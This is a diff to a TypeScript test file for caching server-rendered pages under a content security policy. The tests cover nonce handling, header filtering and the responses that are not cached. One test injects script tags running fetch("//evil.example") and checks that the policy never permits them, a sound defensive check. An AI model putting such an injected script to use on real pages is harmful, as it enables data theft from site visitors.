@@ -48,24 +48,26 @@ describe('a page rendered for a nonce', () => {
     expect(sent).toContain("default-src 'none'");
   });
 
-  test('stays as long as it was, so that lengths within it stay right', () => {
+  test('has the same length as it was rendered with, so that lengths within it stay right', () => {
     expect(page()?.html).toHaveLength(answer().html.length);
   });
 
-  test('a script that a fault wrote into it stays forbidden', () => {
+  test('does not allow a script that a fault wrote into it', () => {
     const theft = 'fetch("//evil.example")';
-    for (const injected of [
-      `<script>${theft}</script>`,
-      `<script nonce="">${theft}</script>`,
-      `<script nonce="${placeholder}">${theft}</script>`,
-      `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${theft}</script>`,
-    ]) {
-      expect(policyOf(documentOf(injected))).toContain("script-src 'self' 'sha256-");
-      expect(policyOf(documentOf(injected))).not.toContain(hash(theft));
+    const nonces = [
+      '',
+      ' nonce=""',
+      ` nonce="${placeholder}"`,
+      ' nonce="AAAAAAAAAAAAAAAAAAAAAA=="',
+    ];
+    for (const attribute of nonces) {
+      const html = documentOf(`<script${attribute}>${theft}</script>`);
+      expect(policyOf(html)).toContain("script-src 'self' 'sha256-");
+      expect(policyOf(html)).not.toContain(hash(theft));
     }
   });
 
-  test('the policy is otherwise that of the page that was rendered', () => {
+  test('has otherwise the policy that it was rendered with', () => {
     const directives = (text: string) =>
       text
         .split('; ')
@@ -74,59 +76,40 @@ describe('a page rendered for a nonce', () => {
     expect(directives(policyOf(answer().html))).toEqual(directives(policy));
   });
 
-  test('is stored with its headers but those of the transfer, and varies by encoding', () => {
-    const { headers } = guestPageOf(
-      answer({
-        headers: {
-          vary: 'rsc',
-          link: `</font.woff2>; rel=preload; nonce="${nonce}"`,
-          'transfer-encoding': 'chunked',
-          connection: 'keep-alive',
-          date: 'now',
-        },
-      }),
-    )!;
-    expect(Object.keys(headers).sort()).toEqual(
-      ['cache-control', 'content-security-policy', 'content-type', 'link', 'vary'].sort(),
-    );
+  test('is stored without the headers of the transfer, and varies by encoding', () => {
+    const link = `</font.woff2>; rel=preload; nonce="${nonce}"`;
+    const transfer = { 'transfer-encoding': 'chunked', connection: 'keep-alive', date: 'now' };
+    const { headers } = guestPageOf(answer({ headers: { vary: 'rsc', link, ...transfer } }))!;
+    const stored = ['cache-control', 'content-security-policy', 'content-type', 'link', 'vary'];
+    expect(Object.keys(headers).sort()).toEqual(stored);
     expect(headers.vary).toBe('rsc, Accept-Encoding');
     expect(headers.link).not.toContain(nonce);
   });
 });
 
 test('a prerendered page is not changed', () => {
-  const prerendered = answer({
-    headers: { 'content-security-policy': "script-src 'self' 'sha256-abc='", etag: '"x"' },
-  });
-  expect(guestPageOf(prerendered)).toMatchObject({
-    html: prerendered.html,
-    headers: { 'content-security-policy': "script-src 'self' 'sha256-abc='", etag: '"x"' },
-  });
+  const headers = { 'content-security-policy': "script-src 'self' 'sha256-abc='", etag: '"x"' };
+  const { html } = answer();
+  expect(guestPageOf(answer({ headers }))).toMatchObject({ html, headers });
 });
+
+const withPolicy = (text: string | undefined) => ({
+  headers: { 'content-security-policy': text },
+});
+const errorPage = documentOf('').replace('<html>', '<html id="__next_error__">');
 
 test.each<[string, () => Partial<Answer>]>([
   ['a redirect', () => ({ status: 307 })],
   ['a missing page', () => ({ status: 404 })],
   ['an error', () => ({ status: 500 })],
   ['a cookie', () => ({ headers: { 'set-cookie': ['session=x'] } })],
-  ['no policy', () => ({ headers: { 'content-security-policy': undefined } })],
-  [
-    'a nonce of another length',
-    () => ({
-      headers: { 'content-security-policy': `${policy} 'nonce-x'`.replace(nonce, 'eA==') },
-    }),
-  ],
-  [
-    'a policy that allows nothing',
-    () => ({ headers: { 'content-security-policy': "default-src 'none'" } }),
-  ],
+  ['no policy', () => withPolicy(undefined)],
+  ['a nonce of another length', () => withPolicy(`${policy} 'nonce-x'`.replace(nonce, 'eA=='))],
+  ['a policy that allows nothing', () => withPolicy("default-src 'none'")],
   ['another type', () => ({ headers: { 'content-type': 'text/x-component' } })],
   ['a document that broke off', () => ({ html: documentOf('').replace('</html>', '') })],
   ['a part that failed', () => ({ html: documentOf('<template data-dgst="1"></template>') })],
-  [
-    'the page of an error',
-    () => ({ html: documentOf('').replace('<html>', '<html id="__next_error__">') }),
-  ],
+  ['the page of an error', () => ({ html: errorPage })],
   ['a redirect in the document', () => ({ html: documentOf('<meta id="__next-page-redirect">') })],
 ])('%s is not stored', (_, changes) => {
   expect(guestPageOf(answer(changes()))).toBeNull();
@@ -134,38 +117,20 @@ test.each<[string, () => Partial<Answer>]>([
 
 describe('a page is stored for a moment only', () => {
   const isBrief = (body: string) => guestPageOf(answer({ html: documentOf(body) }))?.isBrief;
-  const note = (status: 'live' | 'stale') => (
-    <SourceNote
-      sourced={
-        {
-          source: { name: 'Sample', url: null },
-          asOf: '2026-11-26T00:00:00Z',
-          fetchedAt: '2026-11-26T00:00:00Z',
-          status,
-          unread: null,
-        } as unknown as Parameters<typeof SourceNote>[0]['sourced']
-      }
-      ageSeconds={60}
-      messages={sources}
-    />
-  );
+  const [asOf, source] = ['2026-11-26T00:00:00Z', { name: 'Sample', url: null }];
+  type Shown = Parameters<typeof SourceNote>[0]['sourced'];
+  const note = (status: 'live' | 'stale') => {
+    const sourced = { source, asOf, fetchedAt: asOf, status, unread: null } as unknown as Shown;
+    return <SourceNote sourced={sourced} ageSeconds={60} messages={sources} />;
+  };
+  const missing = { problem: 'timed-out', sourceName: 'x', retryPath: '/' } as const;
 
   test.each([
-    [
-      'a source does not answer',
-      <NoFigures
-        key=""
-        problem="timed-out"
-        sourceName="x"
-        retryPath="/"
-        messages={sources.missing}
-      />,
-      true,
-    ],
+    ['a source fails', <NoFigures key="" {...missing} messages={sources.missing} />, true],
     ['figures are old', note('stale'), true],
     ['a chart shows a week instead', <WeekInstead key="" because="limited" retryPath="/" />, true],
     ['figures are new', note('live'), false],
-  ])('where %s: %#', (_, shown, expected) => {
+  ])('where %s', (_, shown, expected) => {
     expect(isBrief(renderToStaticMarkup(shown))).toBe(expected);
   });
 
